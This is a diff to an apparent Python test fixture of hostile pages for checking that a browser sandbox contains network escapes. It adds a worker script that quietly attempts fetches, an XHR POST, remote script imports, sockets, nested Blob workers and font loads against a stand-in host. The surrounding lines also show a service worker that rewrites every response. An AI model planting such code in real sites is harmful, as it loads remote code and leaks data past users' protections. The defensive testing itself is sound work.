@@ -43,6 +43,22 @@ ALONE: Final = (
     "other-job-frame",
 )  # fmt: skip
 """Attacks with a page of their own: they may lead the frame away."""
+EVIL_WORKER: Final = b"""
+const quiet = (task) => { try { const done = task(); done?.catch?.(() => {}) } catch {} };
+const live = "worker-file.live.test";
+quiet(() => fetch(`http://${live}/`, {mode: "no-cors"}));
+quiet(() => { const x = new XMLHttpRequest(); x.open("POST", `http://${live}/`); x.send("a") });
+quiet(() => importScripts(`http://${live}/a.js`));
+quiet(() => import(`http://${live}/a.js`));
+quiet(() => new WebSocket(`ws://${live}/`));
+quiet(() => new EventSource(`http://${live}/`));
+quiet(() => new WebTransport(`https://${live}/`).ready);
+quiet(() => new Worker(`http://${live}/a.js`));
+const nested = `fetch("http://${live}/b").catch(() => 0)`;
+quiet(() => new Worker(URL.createObjectURL(new Blob([nested]))));
+quiet(() => new FontFace("x", `url(http://${live}/a.woff2)`).load());
+"""
+"""A script of a worker, also of one that pages share."""
 NAVIGATIONS: Final[dict[str, bytes]] = {
     "location": reply(b"<script>location = 'http://location.live.test/'</script>"),
     "location-replace": reply(b"<script>location.replace('http://location-replace.live.test/')</script>"),
@@ -168,6 +184,7 @@ class Hostile:
             f"{PAGES}/": self.page(*(name for name in ATTACKS if name not in (*ALONE, CRASH))),
             **{f"{PAGES}/{name}": self.page(name) for name in (*ALONE, CRASH)},
             f"{PAGES}/calm": reply(b"<title>Calm</title><h1>Calm</h1>"),
+            f"{PAGES}/evil-worker.js": reply(EVIL_WORKER, "text/javascript"),
             f"{PAGES}/evil-sw.js": reply(
                 b"self.onfetch = e => e.respondWith(new Response('evil'))",
                 "text/javascript", "200 OK", "Service-Worker-Allowed: /",
